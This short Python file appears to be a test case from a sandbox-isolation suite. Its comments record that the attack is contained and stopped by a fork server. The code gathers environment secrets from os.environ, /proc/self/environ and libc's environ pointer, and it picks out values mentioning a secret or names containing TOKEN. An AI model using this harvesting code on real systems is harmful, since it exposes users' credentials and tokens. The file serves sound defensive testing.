# attack: looks for secrets in the environment that it was given
# full: contained
# reduced: contained
# stopped-by: fork-server
import ctypes
import os

libc = ctypes.CDLL(None)


def attack():
    found = dict(os.environ)
    try:
        with open("/proc/self/environ") as file:
            found["/proc/self/environ"] = file.read()
    except OSError:
        pass
    pointer = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    at = 0
    while pointer[at] is not None:
        found[f"environ[{at}]"] = pointer[at].decode()
        at += 1
    told = [f"{name}={text}" for name, text in found.items() if "the secret is " in text or "TOKEN" in name]
    return f"through: {told}" if told else f"held: {sorted(os.environ)}"
